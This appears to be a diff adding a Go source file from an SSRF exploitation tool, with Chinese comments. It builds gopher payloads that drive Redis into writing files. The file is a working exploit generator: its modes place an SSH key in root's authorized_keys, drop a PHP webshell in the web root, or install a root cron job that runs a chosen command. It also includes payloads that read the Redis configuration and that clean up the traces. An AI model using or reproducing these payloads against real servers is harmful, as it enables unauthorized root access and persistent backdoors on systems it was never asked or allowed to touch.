@@ -0,0 +1,115 @@
+package payloads
+
+import (
+	"fmt"
+	"path"
+	"regexp"
+	"strconv"
+	"strings"
+)
+
+// Redis写文件利用（-exploit redis-write）支持的写入方式
+const (
+	RedisModeSSH      = "ssh"      // 写入SSH公钥到 authorized_keys
+	RedisModeWebshell = "webshell" // 写入webshell到网站目录
+	RedisModeCron     = "cron"     // 写入计划任务
+)
+
+// RedisWriteModes 支持的写入方式
+var RedisWriteModes = []string{RedisModeSSH, RedisModeWebshell, RedisModeCron}
+
+// redisDefaultPaths 每种写入方式默认写入的文件
+var redisDefaultPaths = map[string]string{
+	RedisModeSSH:      "/root/.ssh/authorized_keys",
+	RedisModeWebshell: "/var/www/html/shell.php",
+	RedisModeCron:     "/var/spool/cron/root",
+}
+
+// redisWriteKey 保存写入内容的键名，清理时删除
+const redisWriteKey = "gossrf"
+
+// Redis默认的数据目录和RDB文件名，无法读取原配置时清理payload恢复为该值
+const (
+	RedisDefaultDir  = "/var/lib/redis"
+	RedisDefaultFile = "dump.rdb"
+)
+
+// RedisWrite 通过 CONFIG SET dir/dbfilename 和 SAVE 将键值写入任意文件的Redis利用
+// RDB文件中键值前后还有二进制内容，写入的内容前后加空行，使其单独成行，不影响authorized_keys、crontab和PHP的解析
+type RedisWrite struct {
+	Host    string
+	Port    int
+	Path    string // 写入的文件（RDB文件的完整路径）
+	Content string // 写入的内容
+}
+
+// NewRedisWrite 按写入方式生成Redis写文件利用：data 为SSH公钥、webshell代码或计划任务执行的命令，filePath 为空时使用默认路径
+func NewRedisWrite(mode, host string, port int, filePath, data string) RedisWrite {
+	if filePath == "" {
+		filePath = redisDefaultPaths[mode]
+	}
+	content := strings.TrimSpace(data)
+	if mode == RedisModeCron {
+		content = "* * * * * " + content
+	}
+	return RedisWrite{Host: host, Port: port, Path: filePath, Content: "\n\n" + content + "\n\n"}
+}
+
+// Payload 写入文件的gopher payload：SET 保存内容，CONFIG SET 修改 dir 和 dbfilename 后 SAVE
+func (w RedisWrite) Payload() string {
+	return GopherURL(w.Host, w.Port, redisCommands(
+		[]string{"SET", redisWriteKey, w.Content},
+		[]string{"CONFIG", "SET", "dir", path.Dir(w.Path)},
+		[]string{"CONFIG", "SET", "dbfilename", path.Base(w.Path)},
+		[]string{"SAVE"},
+		[]string{"QUIT"},
+	))
+}
+
+// CleanupPayload 清理的gopher payload：删除写入的键，恢复原来的 dir 和 dbfilename 后再次 SAVE，使原RDB文件不包含写入的内容
+// Redis无法删除已经写入的文件，需要手动删除 w.Path
+func (w RedisWrite) CleanupPayload(dir, file string) string {
+	return GopherURL(w.Host, w.Port, redisCommands(
+		[]string{"DEL", redisWriteKey},
+		[]string{"CONFIG", "SET", "dir", dir},
+		[]string{"CONFIG", "SET", "dbfilename", file},
+		[]string{"SAVE"},
+		[]string{"QUIT"},
+	))
+}
+
+// RedisConfigPayload 读取当前 dir 和 dbfilename 配置的gopher payload，用于生成清理payload
+func RedisConfigPayload(host string, port int) string {
+	return GopherURL(host, port, redisCommands(
+		[]string{"CONFIG", "GET", "dir"},
+		[]string{"CONFIG", "GET", "dbfilename"},
+		[]string{"QUIT"},
+	))
+}
+
+// redisConfigReply CONFIG GET 的响应：*2 $<长度> 配置名 $<长度> 配置值
+var redisConfigReply = regexp.MustCompile(`(?i)\$\d+\r?\n(dir|dbfilename)\r?\n\$\d+\r?\n([^\r\n]+)`)
+
+// ParseRedisConfig 从SSRF响应中解析 CONFIG GET 返回的 dir 和 dbfilename，响应中没有时返回 false
+func ParseRedisConfig(resp string) (dir, file string, ok bool) {
+	for _, m := range redisConfigReply.FindAllStringSubmatch(resp, -1) {
+		if strings.EqualFold(m[1], "dir") {
+			dir = m[2]
+		} else {
+			file = m[2]
+		}
+	}
+	return dir, file, dir != "" && file != ""
+}
+
+// redisCommands 按RESP格式编码多条Redis命令，参数中可以包含换行等任意字节
+func redisCommands(commands ...[]string) []byte {
+	var builder strings.Builder
+	for _, args := range commands {
+		fmt.Fprintf(&builder, "*%d\r\n", len(args))
+		for _, arg := range args {
+			builder.WriteString("$" + strconv.Itoa(len(arg)) + "\r\n" + arg + "\r\n")
+		}
+	}
+	return []byte(builder.String())
+}